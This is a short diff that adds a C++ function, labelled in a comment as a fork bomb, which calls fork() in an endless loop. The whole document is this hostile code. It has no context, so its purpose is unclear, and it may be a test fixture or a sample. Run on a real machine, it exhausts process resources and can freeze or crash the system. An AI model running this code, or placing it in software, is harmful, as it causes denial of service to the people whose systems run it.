@@ -1,0 +1,6 @@
+// A fork bomb.
+namespace {
+bool attack(const std::string&) {
+  for (;;) ::fork();
+}
+}  // namespace
